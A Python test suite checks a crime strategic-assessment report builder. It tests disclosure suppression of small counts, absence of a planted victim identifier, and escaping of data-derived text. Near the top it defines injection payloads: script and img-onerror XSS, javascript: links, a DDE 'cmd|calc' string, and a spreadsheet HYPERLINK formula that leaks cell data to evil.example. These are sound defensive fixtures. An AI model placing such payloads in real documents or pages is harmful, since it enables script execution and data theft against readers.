"""Confidential data: disclosure control of every public table, no victim identifier in any
output byte, and text from data escaped wherever the report shows it (issue #6).

Two builds are audited: the bundled report (session fixture ``built``) and one "planted"
build made here once for the module, from a copy of the synthetic partner data and one
police.uk month in which

* one victim (and one one-stop-shop visitor) identifier is replaced by ``TOKEN``;
* HTML, script and Markdown fragments (``PAYLOADS``) are put into every free-text field
  that comes from data: an LSOA name, MoRiLE rationales and a MoRiLE theme name (renamed
  in the parameters copy too, so the theme is shown in chapter 5 and the key findings),
  action-plan priority and indicator text, and a resident-survey answer;
* the disclosure threshold is raised to 60, so that some counts are suppressed and the
  secondary-suppression, total-row, rate and prose rules are exercised, not only stated.
"""

from __future__ import annotations

import base64
import csv
import gzip
import html
import io
import json
import re
import shutil
import zipfile
import zlib
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import yaml
from bs4 import BeautifulSoup

import sa_lib.run.runner as runner
from sa_lib.paths import DATA_DIR, PARAMETERS_DIR
from sa_lib.report.publish import table_metadata
from sa_lib.stats.disclosure_audit import check_disclosure, recoverable_cells

TOKEN = "VICTIM-PLANTED-7Q3Z"
SCRIPT = '<script>alert("x")</script>'
IMG = "<img src=x onerror=alert(1)>"
MARKDOWN = "**bold** [link](http://evil.example) | pipe | `code`"
PAYLOAD = f"{SCRIPT} {IMG} {MARKDOWN}"
#: The renamed MoRiLE / priority theme (a hand-scored one, so no measure is tied to it).
THEME = "Gangs and child sexual exploitation"
PLANTED_THEME = f"Gangs {PAYLOAD}"
THRESHOLD = 60
#: Spreadsheet formulas (OWASP CSV injection) planted in text fields and a theme name.
FORMULA_THEME = '=HYPERLINK("http://evil.example/?"&C2,"Organised crime groups")'
FORMULA_PRIORITY = "-2+3+cmd|' /C calc'!A0"
#: Planted in the parameters' title and area name: Markdown links to script, HTML, and
#: matplotlib mathtext (which would fail a chart or draw maths).
JS_LINK = "[click me](javascript:alert(1))"
PLANTED_TITLE = f"Strategic Assessment {JS_LINK} <b onmouseover=alert(2)>x</b>"
PLANTED_AREA = "Maidstone $\\frac{1}{2}$ [x](javascript:alert(3))"
POLICE_MONTH = "2025-03-kent-street.csv.gz"


# --------------------------------------------------------------------------- the planted build
def _rewrite_csv(path: Path, change) -> int:
    """Rewrite a CSV row by row with ``change(row) -> row``; returns how many rows changed."""
    opener = gzip.open if path.suffix == ".gz" else open
    with opener(path, "rt", encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    fields = list(rows[0])
    changed = 0
    for row in rows:
        before = dict(row)
        change(row)
        changed += row != before
    with opener(path, "wt", encoding="utf-8", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=fields, lineterminator="\n")
        w.writeheader()
        w.writerows(rows)
    return changed


def _plant(root: Path) -> Path:
    """Copy the inputs into ``root`` with the planted values; returns the parameters file."""
    partner = root / "partner"
    shutil.copytree(DATA_DIR / "synthetic", partner)
    police = root / "police_uk"
    shutil.copytree(DATA_DIR / "police_uk" / "maidstone", police)

    first_victim = pd.read_csv(partner / "synthetic_domestic_abuse.csv", nrows=1)["victim_id"][0]
    first_visitor = pd.read_csv(partner / "synthetic_one_stop_shop.csv", nrows=1)["visitor_id"][0]

    def victim(row: dict) -> None:
        if row["victim_id"] == first_victim:
            row["victim_id"] = TOKEN

    def visitor(row: dict) -> None:
        if row["visitor_id"] == first_visitor:
            row["visitor_id"] = TOKEN

    def morile(row: dict) -> None:
        row["rationale"] = PAYLOAD  # not shown by any chapter today; planted in case it is
        if row["theme"] == THEME:
            row["theme"] = PLANTED_THEME
        if row["theme"] == "Organised crime groups":
            row["theme"] = FORMULA_THEME

    def plan(row: dict) -> None:
        if row["indicator"] == "OCGs subject to partnership disruption":
            row["priority"] = f"OCG {PAYLOAD}"
            row["indicator"] = f"Disruptions {PAYLOAD}"
        if row["indicator"] == "Section 136 detentions":
            row["priority"] = FORMULA_PRIORITY

    def survey(row: dict) -> None:
        if row["response"] == "Very safe":
            row["response"] = f"Very safe {PAYLOAD}"

    lsoa_done: list[bool] = []

    def lsoa(row: dict) -> None:
        # Keep the "Maidstone " prefix so a name-based area selection would still keep it.
        if not lsoa_done and row["LSOA name"].startswith("Maidstone "):
            row["LSOA name"] = f"{row['LSOA name']} {PAYLOAD}"
            lsoa_done.append(True)

    assert _rewrite_csv(partner / "synthetic_domestic_abuse.csv", victim) >= 1
    assert _rewrite_csv(partner / "synthetic_one_stop_shop.csv", visitor) >= 1
    for sheet in sorted(partner.glob("synthetic_morile_scorer_*.csv")):
        assert _rewrite_csv(sheet, morile) > 0
    assert _rewrite_csv(partner / "synthetic_action_plan.csv", plan) > 0
    assert _rewrite_csv(partner / "synthetic_resident_survey.csv", survey) > 0
    assert _rewrite_csv(police / POLICE_MONTH, lsoa) == 1

    raw = yaml.safe_load((PARAMETERS_DIR / "2025.yaml").read_text(encoding="utf-8"))
    raw["data"]["partner"] = str(partner)
    raw["data"]["morile_sheets"] = str(partner)
    raw["data"]["police_uk"] = [str(police)]
    raw["thresholds"]["disclosure"] = THRESHOLD
    pr = raw["priorities"]
    for key in ("perception", "volume", "trend", "influence", "evidence"):
        if THEME in pr[key]:
            pr[key][PLANTED_THEME] = pr[key].pop(THEME)
    raw["last_year_priorities"] = [PLANTED_THEME if t == THEME else t
                                   for t in raw["last_year_priorities"]]
    for key in ("perception", "volume", "trend", "influence", "evidence"):
        if "Organised crime groups" in pr[key]:
            pr[key][FORMULA_THEME] = pr[key].pop("Organised crime groups")
    raw["last_year_priorities"] = [FORMULA_THEME if t == "Organised crime groups" else t
                                   for t in raw["last_year_priorities"]]
    # Block Markdown in a description: no list, heading or code block may come of it.
    raw["themes"][0]["description"] = "1. listed\n===\n- item\n\n    code\n<b>x</b>"
    raw["title"] = PLANTED_TITLE
    raw["area"]["name"] = PLANTED_AREA
    path = root / "planted.yaml"
    path.write_text(yaml.safe_dump(raw, sort_keys=False, allow_unicode=True), encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def planted(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """(input folder, period folder of the build) of the planted report, built once."""
    root = tmp_path_factory.mktemp("planted_inputs")
    params = _plant(root)
    out = tmp_path_factory.mktemp("planted_outputs")
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("SA_EXTRA_DATA_DIRS", str(root.resolve()))
        mp.setattr(runner, "OUTPUTS_DIR", out)
        build = runner.run_assessment(params, progress=False).output_dir
    return root, build


# --------------------------------------------------------------------------- reading tables
def _read_table(path: Path, meta: dict) -> pd.DataFrame:
    """A published CSV with count columns as numbers, the suppression marker kept as text."""
    df = pd.read_csv(path, dtype=str, keep_default_na=False)
    symbol = meta["symbol"]

    def number(v: str) -> object:
        if v == "" or v == symbol:
            return np.nan if v == "" else v
        try:
            return float(v)
        except ValueError:
            return v  # check_disclosure reports text in a count column

    for col in meta["count_columns"]:
        values = df[col].map(number)
        shown = values.map(lambda v: not isinstance(v, str))
        df[col] = values.astype(float) if shown.all() else values.astype(object)
    return df


def _sensitive_tables(build: Path) -> dict[str, tuple[pd.DataFrame, pd.DataFrame, dict]]:
    """Every sensitive public table: (public, official, metadata), by name."""
    out = {}
    for path in sorted((build / "public" / "tables").glob("*.csv")):
        meta = table_metadata(path)
        if meta["sensitive"]:
            official = _read_table(build / "official" / "tables" / path.name, meta)
            out[path.stem] = (_read_table(path, meta), official, meta)
    return out


def _hidden_cells(public: pd.DataFrame, meta: dict) -> set[tuple[str, str]]:
    label = meta["label_column"] or public.columns[0]
    return {(str(public.at[i, label]), c) for c in public.columns for i in public.index
            if public.at[i, c] == meta["symbol"]}


def audit_public_build(build: Path) -> list[str]:
    """Every way the public build of ``build`` could disclose a small or confidential count."""
    problems: list[str] = []
    public, official = build / "public" / "tables", build / "official" / "tables"
    for path in sorted(public.glob("*.csv")):
        meta_path = path.with_suffix(".meta.json")
        if not meta_path.exists():
            problems.append(f"{path.name}: no metadata ({meta_path.name})")
            continue
        meta = table_metadata(path)
        if meta["audience"] != "public" or not meta["published"] or meta["confidential"]:
            problems.append(f"{path.name}: metadata says {meta}")
        if meta["sensitive"] and not meta["count_columns"]:
            problems.append(f"{path.name}: sensitive but declares no count columns")
    for meta_path in sorted(official.glob("*.meta.json")):
        meta = table_metadata(meta_path)
        name = meta["name"]
        if meta["confidential"]:
            if (public / f"{name}.csv").exists():
                problems.append(f"{name}: partner-confidential, but in the public build")
            if table_metadata(public / f"{name}.meta.json")["published"] is not False:
                problems.append(f"{name}: public metadata does not record it as withheld")
    tables = _sensitive_tables(build)
    for name, (pub, full, meta) in tables.items():
        opts = {"value_columns": meta["count_columns"], "derived": meta["derived"] or None,
                "sums": meta["sums"] or None, "label_column": meta["label_column"]}
        problems += [f"{name}: {p}" for p in check_disclosure(
            pub, meta["threshold"], symbol=meta["symbol"], **opts)]
        problems += [f"{name}: {p}" for p in recoverable_cells(
            pub, full, meta["count_columns"], label_column=meta["label_column"],
            symbol=meta["symbol"], sums=meta["sums"] or None)]
    # The same cell (row label, column) hidden in one table and shown in another.
    shown: dict[tuple[str, str], str] = {}
    hidden: dict[tuple[str, str], str] = {}
    for name, (pub, _, meta) in tables.items():
        label = meta["label_column"] or pub.columns[0]
        if pub[label].duplicated().any():
            continue  # long tables (measure, window): labels do not name one cell
        for col in meta["count_columns"]:
            for lab, v in zip(pub[label], pub[col], strict=True):
                (hidden if v == meta["symbol"] else shown)[(str(lab), col)] = name
    for cell in sorted(set(shown) & set(hidden)):
        problems.append(f"row {cell[0]!r}, column {cell[1]!r}: hidden in {hidden[cell]} but "
                        f"shown in {shown[cell]}")
    # Tables computed from another table's counts (rates) hide what that table hides.
    for path in sorted(public.glob("*.csv")):
        meta = table_metadata(path)
        src = meta["derived_from"]
        if not src:
            continue
        dep = pd.read_csv(path, dtype=str, keep_default_na=False)
        base, _, base_meta = tables[src["table"]]
        for col, count_col in src["columns"].items():
            gone = set(base.loc[base[count_col] == base_meta["symbol"], src["key"]])
            visible = dep.loc[dep[src["key"]].isin(gone) & (dep[col] != meta["symbol"]), src["key"]]
            problems += [f"{path.stem}: row {r!r}, column {col!r} is shown although its count "
                         f"is hidden in {src['table']}" for r in visible]
    return problems


def _report_text(page: str) -> str:
    return BeautifulSoup(page, "html.parser").get_text("\n")


def quoted_hidden_counts(build: Path) -> list[str]:
    """Hidden counts that the public report's prose quotes next to their row's label."""
    text = _report_text((build / "public" / "report.html").read_text(encoding="utf-8"))
    segments = [s for s in re.split(r"\n|; |(?<=\.) ", text) if s.strip()]
    problems = []
    for name, (pub, full, meta) in _sensitive_tables(build).items():
        label = meta["label_column"] or pub.columns[0]
        for lab, col in _hidden_cells(pub, meta):
            if col not in meta["count_columns"] or pub[label].duplicated().any():
                continue
            value = full.loc[full[label] == lab, col].iloc[0]
            if pd.isna(value):
                continue
            for seg in segments:
                numbers = {n.replace(",", "") for n in re.findall(r"\d[\d,]*(?:\.\d+)?", seg)}
                if lab in seg and f"{value:g}" in numbers:
                    problems.append(f"{name}: {lab} / {col} = {value:g} is quoted in {seg!r}")
    return problems


# --------------------------------------------------------------------------- disclosure
def test_every_public_table_of_the_bundled_build_passes_the_audit(built: Path) -> None:
    assert sorted((built / "public" / "tables").glob("*.csv"))
    assert audit_public_build(built) == []
    assert quoted_hidden_counts(built) == []


def test_planted_build_suppresses_and_passes_the_audit(planted: tuple[Path, Path]) -> None:
    _, build = planted
    tables = _sensitive_tables(build)
    hidden = {name: _hidden_cells(pub, meta) for name, (pub, _, meta) in tables.items()}
    # The raised threshold really hides counts, including a total row and a rate, so the
    # audit below checks suppression that happened.
    assert ("Robbery", "Jan 2025 – Apr 2025") in hidden["crime_change"]
    theme = hidden["theme_violence_and_domestic_abuse_crime_change"]
    assert ("Possession of weapons", "Jan 2025 – Apr 2025") in theme
    assert ("Violence and domestic abuse: all types", "Jan 2025 – Apr 2025") in theme
    rates = pd.read_csv(build / "public" / "tables" / "crime_rates.csv", dtype=str)
    assert (rates.set_index("crime type").loc["Robbery"] == f"<{THRESHOLD}").all()
    assert audit_public_build(build) == []
    assert quoted_hidden_counts(build) == []


def test_public_tables_have_metadata_and_confidential_ones_are_absent(built: Path) -> None:
    meta = table_metadata(built / "official" / "tables" / "domestic_abuse_repeat_victims.csv")
    assert meta["confidential"] and meta["sensitive"] and meta["count_columns"]
    assert not (built / "public" / "tables" / "domestic_abuse_repeat_victims.csv").exists()
    names = {p.stem for p in (built / "public" / "tables").glob("*.csv")}
    assert names == {p.name.removesuffix(".meta.json")
                     for p in (built / "public" / "tables").glob("*.meta.json")} - {
        "domestic_abuse_repeat_victims"}
    from sa_lib.run.xlsx import read_tables_xlsx

    book = read_tables_xlsx(built / "public" / "tables.xlsx")["contents"]
    assert not book["table (tables/*.csv)"].str.endswith(".json").any()


def test_the_audit_catches_a_leak(built: Path, tmp_path: Path) -> None:
    """Unsuppress one cell of a copy of the public build: the audit must name it."""
    build = tmp_path / "build"
    for audience in ("official", "public"):
        shutil.copytree(built / audience / "tables", build / audience / "tables")
    shutil.copy(built / "public" / "report.html", build / "public" / "report.html")
    path = build / "public" / "tables" / "theme_substance_misuse_crime_change.csv"
    df = pd.read_csv(path)
    df.loc[0, df.columns[2]] = 3  # a visible small count
    df.to_csv(path, index=False)
    assert any("count 3 is visible" in p for p in audit_public_build(build))


# --------------------------------------------------------------------------- victim identifiers
def _png_texts(data: bytes) -> list[bytes]:
    """The text chunks (tEXt, zTXt, iTXt) of a PNG, decompressed."""
    out, pos = [], 8
    while pos + 8 <= len(data):
        length = int.from_bytes(data[pos:pos + 4], "big")
        kind, body = data[pos + 4:pos + 8], data[pos + 8:pos + 8 + length]
        if kind == b"tEXt":
            out.append(body)
        elif kind == b"zTXt":
            key, _, rest = body.partition(b"\0")
            out.append(key + b"\0" + zlib.decompress(rest[1:]))
        elif kind == b"iTXt":
            key, _, rest = body.partition(b"\0")
            flag, text = rest[0], rest[2:].split(b"\0", 2)[-1]
            out.append(key + b"\0" + (zlib.decompress(text) if flag else text))
        pos += 12 + length
    return out


_BASE64 = re.compile(rb"[A-Za-z0-9+/]{400,}={0,2}")


def _expanded(name: str, data: bytes) -> list[tuple[str, bytes]]:
    """A file's bytes plus everything inside it: zip members, PNG text, base64 images."""
    out = [(name, data)]
    if data[:4] == b"PK\x03\x04":
        with zipfile.ZipFile(io.BytesIO(data)) as z:
            for member in z.namelist():
                out += _expanded(f"{name}!{member}", z.read(member))
    if data[:8] == b"\x89PNG\r\n\x1a\n":
        out += [(f"{name} (PNG text)", t) for t in _png_texts(data)]
    if name.endswith((".html", ".ipynb", ".json")):
        for k, m in enumerate(_BASE64.finditer(data.replace(b"\\n", b"").replace(b"\n", b""))):
            try:
                blob = base64.b64decode(m.group(0))
            except ValueError:
                continue
            out += _expanded(f"{name} (embedded {k})", blob)
    return out


def _token_forms(data: bytes) -> bytes:
    """Text with tags removed and entities decoded, so split or escaped forms are found too."""
    text = data.decode("utf-8", errors="replace")
    text = html.unescape(re.sub(r"<[^>]*>", "", text))
    return text.encode("utf-8").replace(b"\\u002d", b"-")


def test_planted_identifier_is_in_the_input_and_nowhere_in_the_outputs(
        planted: tuple[Path, Path]) -> None:
    root, build = planted
    da = (root / "partner" / "synthetic_domestic_abuse.csv").read_bytes()
    oss = (root / "partner" / "synthetic_one_stop_shop.csv").read_bytes()
    assert TOKEN.encode() in da and TOKEN.encode() in oss  # the test can fail
    needles = [TOKEN, TOKEN.lower(), "PLANTED-7Q3Z", "VICTIM-PLANTED"]
    files = sorted(p for p in build.parent.rglob("*") if p.is_file())
    assert any(p.suffix == ".xlsx" for p in files) and any(p.suffix == ".ipynb" for p in files)
    found = []
    for path in files:
        for where, data in _expanded(str(path.relative_to(build.parent)), path.read_bytes()):
            for form in (data, data.lower(), _token_forms(data), _token_forms(data).lower()):
                found += [f"{where}: {n}" for n in needles if n.lower().encode() in form.lower()]
    assert not found, "planted identifier in the outputs:\n" + "\n".join(sorted(set(found)))


def test_the_identifier_search_sees_inside_workbooks_and_pngs(tmp_path: Path) -> None:
    """The search above finds the token in every container it claims to open."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("xl/sharedStrings.xml", f"<si><t>{TOKEN}</t></si>")
    png = b"\x89PNG\r\n\x1a\n" + _chunk(b"zTXt", b"Comment\0\0" + zlib.compress(TOKEN.encode()))
    page = f'<p>VICTIM&#45;PLANT<span>ED-7Q3Z</span></p><img src="data:image/png;base64,' \
           f'{base64.b64encode(png + bytes(400)).decode()}">'
    for name, data in (("a.xlsx", buf.getvalue()), ("c.png", png), ("p.html", page.encode())):
        hits = [d for _, d in _expanded(name, data)
                if TOKEN.encode() in d or TOKEN.encode() in _token_forms(d)]
        assert hits, name


def _chunk(kind: bytes, body: bytes) -> bytes:
    return len(body).to_bytes(4, "big") + kind + body + zlib.crc32(kind + body).to_bytes(4, "big")


# --------------------------------------------------------------------------- escaping
def _pages(build: Path) -> list[Path]:
    return sorted(build.rglob("*.html"))


def test_text_from_data_is_shown_as_text_not_markup(planted: tuple[Path, Path]) -> None:
    _, build = planted
    pages = _pages(build)
    assert {p.name for p in pages} >= {"report.html", "05_prioritisation.html"}
    for page in pages:
        soup = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser")
        where = page.relative_to(build)
        assert not [s for s in soup.find_all("script") if "alert" in s.get_text()], where
        handlers = [(t.name, a) for t in soup.find_all(True) for a in t.attrs
                    if a.lower().startswith("on")]
        assert not handlers, (where, handlers)
        assert not soup.find_all("img", src="x"), where
        assert not soup.find_all("a", href=re.compile("evil")), where
        assert not [t for t in soup.find_all(["strong", "b", "em"]) if t.get_text() == "bold"], where
        assert not [t for t in soup.find_all("code") if t.get_text() == "code"], where
        assert not [t for t in soup.find_all(["td", "th"]) if t.get_text().strip() == "pipe"], where
    # The planted text is there, as literal text, where the report shows that field.
    for audience in ("official", "public"):
        text = _report_text((build / audience / "report.html").read_text(encoding="utf-8"))
        flat = re.sub(r"\s+", " ", text)
        assert flat.count(f"Gangs {SCRIPT} {IMG} {MARKDOWN}") >= 3, audience  # MoRiLE, matrix...
        assert f"Disruptions {SCRIPT} {IMG} {MARKDOWN}" in flat, audience  # action plan


def test_data_fields_the_report_does_not_show(planted: tuple[Path, Path]) -> None:
    """LSOA names, MoRiLE rationales and survey answers are not shown by any chapter today;
    this pins that (a chapter that starts showing one is covered by the test above)."""
    root, build = planted
    for page in _pages(build):
        text = _report_text(page.read_text(encoding="utf-8"))
        assert "Very safe" not in text and "Maidstone 001A" not in text, page
    with gzip.open(root / "police_uk" / POLICE_MONTH, "rt", encoding="utf-8", newline="") as fh:
        names = {r["LSOA name"] for r in csv.DictReader(fh)}
    assert any(n.startswith("Maidstone ") and n.endswith(PAYLOAD) for n in names)


# --------------------------------------------------------------------------- formulas, links
_PLAIN_NUMBER = re.compile(r"^[+-]?(\d[\d,]*(\.\d*)?|\.\d+)([eE][+-]?\d+)?%?$")


def _formula_like(cell: str) -> bool:
    s = cell.lstrip(" ")
    return s[:1] in ("=", "+", "-", "@", "\t", "\r", "\n") and not _PLAIN_NUMBER.match(s.strip())


def test_no_text_from_data_is_a_formula_in_a_table_or_workbook(
        planted: tuple[Path, Path]) -> None:
    from openpyxl import load_workbook

    _, build = planted
    seen_planted = 0
    for audience in ("official", "public"):
        for path in sorted((build / audience / "tables").glob("*.csv")):
            with path.open(encoding="utf-8", newline="") as fh:
                for r, row in enumerate(csv.reader(fh), start=1):
                    for c, cell in enumerate(row, start=1):
                        assert not _formula_like(cell), (path.name, r, c, cell)
                        seen_planted += cell in (f"'{FORMULA_THEME}", f"'{FORMULA_PRIORITY}")
        book = load_workbook(build / audience / "tables.xlsx")
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (audience, sheet.title, cell.coordinate)
                    if isinstance(cell.value, str):
                        assert not _formula_like(cell.value), (sheet.title, cell.coordinate)
    assert seen_planted >= 6  # the planted text reached the tables, as text


def test_title_and_area_name_reach_every_page_as_text(planted: tuple[Path, Path]) -> None:
    _, build = planted
    for page in _pages(build):
        soup = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser")
        where = page.relative_to(build)
        links = [a.get("href", "") for a in soup.find_all("a")]
        # In-page anchors ("#Strategic-Assessment-...") may spell the heading; no link may
        # run script or leave the page for a planted address.
        active = [h for h in links if not h.startswith("#")
                  and (re.match(r"\s*(javascript|vbscript|data):", h, re.I) or "evil" in h)]
        assert not active, where
        assert not [(t.name, a) for t in soup.find_all(True) for a in t.attrs
                    if a.lower().startswith("on")], where
        assert not soup.find_all("b"), where
        assert not [c for c in soup.find_all("code") if c.get_text() == "code"], where
        assert not [li for li in soup.find_all("li") if li.get_text().strip() in ("listed", "item")]
    for audience in ("official", "public"):
        text = re.sub(r"\s+", " ", _report_text(
            (build / audience / "report.html").read_text(encoding="utf-8")))
        assert PLANTED_TITLE in text and PLANTED_AREA in text, audience


def test_public_charts_show_no_count_below_the_threshold(planted: tuple[Path, Path]) -> None:
    """A chart whose points, bars or alt text would show a small count is withheld in public."""
    _, build = planted
    public, official = build / "public", build / "official"
    withheld = {p.name for p in (official / "charts").glob("*.png")} - \
        {p.name for p in (public / "charts").glob("*.png")}
    assert withheld, "the planted threshold (60) should withhold some charts"
    page = (public / "report.html").read_text(encoding="utf-8")
    assert page.count("Chart withheld") >= len(withheld)
    soup = BeautifulSoup(page, "html.parser")
    for img in soup.find_all("img"):
        alt = img.get("alt", "")
        for value in re.findall(r"latest value, ([\d,.]+) in", alt):
            v = float(value.replace(",", ""))
            assert v == 0 or v >= THRESHOLD, alt
        if alt.startswith("Bar chart of"):
            for value in re.findall(r": ([\d,.]+)(?:[;.]|$)", alt):
                v = float(value.replace(",", "").rstrip("."))
                assert v == 0 or v >= THRESHOLD, alt


def _chart_metadata(folder: Path) -> dict[str, dict]:
    return {p.name.removesuffix(".meta.json"): json.loads(p.read_text(encoding="utf-8"))
            for p in sorted((folder / "charts").glob("*.meta.json"))}


def test_every_public_chart_records_its_counts_and_none_is_small(
        planted: tuple[Path, Path]) -> None:
    """Each chart written has ``charts/<name>.meta.json``: the counts a reader can read off it
    (none from 1 to threshold - 1 in a published public chart), or why it shows none."""
    _, build = planted
    for audience in ("official", "public"):
        folder = build / audience
        meta = _chart_metadata(folder)
        pngs = {p.stem for p in (folder / "charts").glob("*.png")}
        assert pngs and pngs == {n for n, m in meta.items() if m["published"]}, audience
        for name, m in meta.items():
            # Every chart-producing chapter method sets counts, or says why there are none.
            assert m["counts"] is not None or m["no_counts"].strip(), (audience, name)
            if audience == "public" and m["published"] and m["counts"] is not None:
                small = [v for v in m["counts"] if 0 < v < THRESHOLD]
                assert not small, (name, small)
    public = _chart_metadata(build / "public")
    withheld = [n for n, m in public.items() if not m["published"]]
    assert withheld and all(not (build / "public" / "charts" / f"{n}.png").exists()
                            for n in withheld)
    page = " ".join(BeautifulSoup((build / "public" / "report.html").read_text(
        encoding="utf-8"), "html.parser").get_text().split())
    for name in withheld:  # one sentence says why, where the chart would have been
        sentence = (f"Chart withheld: {name.replace('_', ' ')} would show counts below "
                    f"{THRESHOLD}, so it is in the official report only.")
        assert page.count(sentence) == 1, name
    official = _chart_metadata(build / "official")
    assert set(official) == set(public)
    assert {n for n, m in official.items() if m["counts"] is None} >= {"priority_matrix"}


def test_public_volume_basis_quotes_no_small_count(planted: tuple[Path, Path]) -> None:
    _, build = planted
    table = pd.read_csv(build / "public" / "tables" / "priority_matrix.csv", dtype=str)
    for basis in table["volume basis"]:
        m = re.match(r"([\d,]+) in ", basis)
        if m:
            v = int(m.group(1).replace(",", ""))
            assert v == 0 or v >= THRESHOLD, basis
    official = pd.read_csv(build / "official" / "tables" / "priority_matrix.csv", dtype=str)
    small = [b for b in official["volume basis"] if re.match(r"([1-5]?\d) in ", b)]
    assert small, "the planted threshold should make some volume bases small"
    assert any(b.startswith(f"fewer than {THRESHOLD} in ") for b in table["volume basis"])
